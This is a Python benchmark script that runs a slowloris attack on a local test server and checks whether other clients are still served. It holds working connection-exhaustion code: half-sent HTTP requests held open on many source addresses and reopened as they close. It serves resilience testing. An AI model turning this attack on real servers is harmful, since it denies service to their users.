"""Hold 1,100 connections open, each with half a request (slowloris): does the server still accept other people?"""

from __future__ import annotations

import asyncio
from contextlib import suppress
from time import perf_counter
from typing import Final

import httpx

from benchmarks.attacks.harness import AttackedServer, AttackRun

_CONNECTIONS: Final = 1100
_HALF_REQUEST: Final = b"GET / HTTP/1.1\r\nHost: localhost\r\n"
_REOPEN_RATE: Final = 200
"""How many of the closed connections the attacker opens again in a second."""


async def attack(run: AttackRun) -> None:
    """Attack from one address, then from forty."""
    for addresses in (1, 40):
        with run.server() as server:
            async with run.other_rooms(server) as other_rooms:
                await asyncio.sleep(6)  # until the idle HTTP connections of the other rooms are closed
                other_rooms.reset()
                attacker = _Attacker(server, [f"127.1.0.{1 + number}" for number in range(addresses)])
                attacking = asyncio.create_task(attacker.run())
                await asyncio.sleep(2)
                run.report(f"{_CONNECTIONS} half-open requests from {addresses} addresses")
                run.report(f"{server.open_files()} open files; {await _request_from_elsewhere(server, 30)}")
                run.report(other_rooms.summary())
                attacking.cancel()
                await asyncio.gather(attacking, return_exceptions=True)


class _Attacker:
    """Opens connections, sends half a request on each, and reopens those that the server closes."""

    def __init__(self, server: AttackedServer, sources: list[str]) -> None:
        self._server = server
        self._sources = sources
        self._missing: asyncio.Queue[int] = asyncio.Queue()
        self._tasks: set[asyncio.Task[None]] = set()

    async def run(self) -> None:
        """Attack until cancelled."""
        for number in range(_CONNECTIONS):
            self._missing.put_nowait(number)
        opened = 0
        try:
            while True:
                number = await self._missing.get()
                task = asyncio.create_task(self._hold(number))
                self._tasks.add(task)
                task.add_done_callback(self._tasks.discard)
                opened += 1
                await asyncio.sleep(0 if opened < _CONNECTIONS else 1 / _REOPEN_RATE)
        finally:
            for task in self._tasks:
                task.cancel()
            await asyncio.gather(*self._tasks, return_exceptions=True)

    async def _hold(self, number: int) -> None:
        source = self._sources[number % len(self._sources)]
        with suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", self._server.port, local_addr=(source, 0))
            try:
                writer.write(_HALF_REQUEST)
                await reader.read()
            finally:
                writer.close()
        self._missing.put_nowait(number)


async def _request_from_elsewhere(server: AttackedServer, number: int) -> str:
    """Send requests from another address; return how many got a response, as a sentence."""
    answered, slowest = 0, 0.0
    no_keepalive = httpx.Limits(max_keepalive_connections=0)
    transport = httpx.AsyncHTTPTransport(local_address="127.0.0.3", limits=no_keepalive)
    async with httpx.AsyncClient(transport=transport, timeout=2) as client:
        for _ in range(number):
            begun = perf_counter()
            with suppress(httpx.HTTPError):
                answered += (await client.get(f"{server.address}/health/live")).is_success
            slowest = max(slowest, perf_counter() - begun)
            await asyncio.sleep(0.05)
    return f"{answered} of {number} requests from elsewhere got a response, the slowest in {slowest * 1000:.0f} ms"
